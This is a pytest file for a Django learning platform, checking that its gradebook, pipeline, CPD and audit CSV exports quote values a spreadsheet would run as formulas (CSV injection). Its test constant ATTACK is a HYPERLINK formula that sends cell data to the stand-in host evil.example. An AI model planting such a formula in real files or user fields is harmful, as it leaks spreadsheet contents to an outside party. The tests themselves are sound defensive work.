"""Every CSV export quotes text a spreadsheet would run as a formula (CSV injection): names,
institutions and comments are typed by people. The reports' CSV had the guard; the gradebook,
pipeline, CPD and audit exports did not."""

import csv
import io

import pytest

from courses import services as course_services
from lms.exports import neutralised
from lms.services import record_event
from tests.certificates.conftest import issue  # noqa: F401 (fixture)
from tests.courses.factories import make_course, quiz_block
from tests.factories import CoordinatorFactory, UserFactory
from tests.fellowships.conftest import coordinator  # noqa: F401 (fixture)
from tests.fellowships.test_pages import _in_status

pytestmark = pytest.mark.django_db

ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+34 600 000 000", "'+34 600 000 000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("Amina Diallo", "Amina Diallo"),
        (-2, -2),
        (None, None),
    ],
)
def test_text_that_could_run_as_a_formula_is_quoted_and_numbers_are_not(value, written):
    assert neutralised(value) == written


def _rows(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def test_the_gradebook_csv_quotes_a_formula_in_a_learners_name(client):
    course = make_course(lessons=[[quiz_block()]])
    learner = UserFactory(full_name=ATTACK)
    course_services.enrol(actor=learner, course=course)
    client.force_login(course.faculty.get())

    rows = _rows(client.get(f"/courses/{course.pk}/gradebook.csv").content)

    assert rows[1][0] == f"'{ATTACK}"


def test_the_pipeline_csv_quotes_a_formula_in_an_applicants_name(client, coordinator):  # noqa: F811
    application = _in_status("submitted")
    application.applicant.full_name = ATTACK
    application.applicant.save(update_fields=["full_name"])
    client.force_login(coordinator)

    rows = _rows(client.get(f"/fellowships/intakes/{application.intake_id}/pipeline.csv").content)

    assert rows[1][2] == f"'{ATTACK}"


def test_the_cpd_csv_quotes_a_formula_in_a_recipients_name(client, issue):  # noqa: F811
    issue(recipient=UserFactory(full_name=ATTACK), hours=2)
    client.force_login(CoordinatorFactory())

    rows = _rows(client.get("/certificates/export/cpd.csv").content)

    assert rows[1][0] == f"'{ATTACK}"


def test_the_audit_csv_quotes_a_formula_in_a_comment(client):
    office = CoordinatorFactory()
    record_event(actor=office, verb="note.added", target=office, comment=ATTACK)
    client.force_login(office)

    body = b"".join(client.get("/office/audit.csv", {"verb": "note"}).streaming_content).decode()

    assert [row[-1] for row in _rows(body) if row[4] == "note.added"] == [f"'{ATTACK}"]
